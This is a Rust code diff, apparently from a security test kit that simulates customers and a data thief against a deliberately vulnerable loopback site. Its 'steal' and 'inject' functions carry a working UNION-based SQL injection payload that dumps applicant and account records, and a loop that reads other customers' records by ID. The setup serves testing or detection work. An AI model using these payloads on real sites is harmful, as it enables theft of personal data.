@@ -2,7 +2,7 @@
 //!
 //! Both go through real sockets on the loopback interface. What they do is bounded by the scenario's numbers.
 
-use crate::client::{Client, percent_encoded};
+use crate::client::{Answer, Client, percent_encoded};
 use crate::site::password;
 use sekisho_testkit::Person;
 use std::io;
@@ -11,22 +11,31 @@ use std::net::{Ipv4Addr, SocketAddr};
 /// What ordinary customers look for.
 const SEARCHES: [&str; 6] = ["スワップ", "初心者", "確定申告", "O'Brien", "USD/JPY", "セミナー"];
 
-/// A customer signs in, looks at their own pages, searches seminars and leaves. Returns the requests made.
+/// A customer signs in, looks at their own pages, searches seminars and leaves; every third one signs up for a seminar,
+/// which shows them what they typed.
+///
+/// Returns the requests made.
 pub async fn visit(server: SocketAddr, address: Ipv4Addr, number: usize, person: &Person) -> io::Result<u32> {
     let mut client = Client::new(server, address);
     let search = SEARCHES[number % SEARCHES.len()];
-    client.get("/").await?;
-    client.post("/login", &[("account_id", &person.account_id), ("password", &password(&person.account_id))]).await?;
-    client.get("/mypage").await?;
-    client.get("/api/positions").await?;
     let encoding = if number.is_multiple_of(2) { "utf-8" } else { "shift_jis" };
-    client.get(&format!("/statement.csv?encoding={encoding}")).await?;
+    reached(client.get("/").await?)?;
+    sign_in(&mut client, &person.account_id).await?;
+    reached(client.get("/mypage").await?)?;
+    reached(client.get("/api/positions").await?)?;
+    reached(client.get(&format!("/statement.csv?encoding={encoding}")).await?)?;
     for typed in (1..=search.chars().count()).map(|length| search.chars().take(length).collect::<String>()) {
-        client.get(&format!("/api/autocomplete?q={}", percent_encoded(&typed))).await?;
+        reached(client.get(&format!("/api/autocomplete?q={}", percent_encoded(&typed))).await?)?;
     }
+    // An apostrophe breaks the search's statement: that answer is an error page.
     client.get(&format!("/seminars?q={}", percent_encoded(search))).await?;
-    client.get("/logout").await?;
-    Ok(7 + u32::try_from(search.chars().count()).unwrap_or(u32::MAX))
+    if number.is_multiple_of(3) {
+        let (name, kana) = (person.name(), person.kana());
+        let fields = [("name", &name), ("kana", &kana), ("email", &person.email), ("phone", &person.phone)];
+        reached(client.post("/seminars/1/apply", &fields.map(|(field, value)| (field, value.as_str()))).await?)?;
+    }
+    reached(client.get("/logout").await?)?;
+    Ok(client.requests())
 }
 
 /// How much the thief takes.
@@ -42,29 +51,40 @@ pub struct Loot {
     pub records: usize,
 }
 
-/// The thief: first the seminar search, then other people's records. `client` should capture.
+/// The thief: first the seminar search, then other people's records (hole 2), signed in as the first account of the
+/// site. `client` should capture.
+///
+/// Returns the requests made.
 pub async fn steal(client: &mut Client, loot: Loot, own_account_id: &str) -> io::Result<u32> {
-    let mut requests = 0;
     for offset in (0..loot.applicants).step_by(loot.page_rows) {
         let rows = loot.page_rows.min(loot.applicants - offset);
         inject(client, "name, email, phone, applicant_id FROM applicants", rows, offset).await?;
-        requests += 1;
     }
     for offset in (0..loot.accounts).step_by(loot.page_rows) {
         let rows = loot.page_rows.min(loot.accounts - offset);
         inject(client, "name, email, account_id, '' FROM accounts", rows, offset).await?;
-        requests += 1;
     }
-    client.post("/login", &[("account_id", own_account_id), ("password", &password(own_account_id))]).await?;
-    for record in 1..=loot.records {
-        client.get(&format!("/api/customers/{record}")).await?;
-        requests += 1;
+    sign_in(client, own_account_id).await?;
+    for record in (2..).take(loot.records) {
+        reached(client.get(&format!("/api/customers/{record}")).await?)?;
     }
-    Ok(requests + 1)
+    Ok(client.requests())
 }
 
 /// Continues the search's statement with one of the thief's (hole 1).
 async fn inject(client: &mut Client, selection: &str, rows: usize, offset: usize) -> io::Result<()> {
     let typed = format!("zzz%' UNION ALL SELECT 0, {selection} LIMIT {rows} OFFSET {offset} --");
-    client.get(&format!("/seminars?q={}", percent_encoded(&typed))).await.map(drop)
+    reached(client.get(&format!("/seminars?q={}", percent_encoded(&typed))).await?)
+}
+
+async fn sign_in(client: &mut Client, account_id: &str) -> io::Result<()> {
+    reached(client.post("/login", &[("account_id", account_id), ("password", &password(account_id))]).await?)
+}
+
+/// A page or a redirect came; anything else would make the scenario another one without saying so.
+fn reached(answer: Answer) -> io::Result<()> {
+    match answer.status {
+        200..=399 => Ok(()),
+        status => Err(io::Error::other(format!("the site answered with {status}"))),
+    }
 }
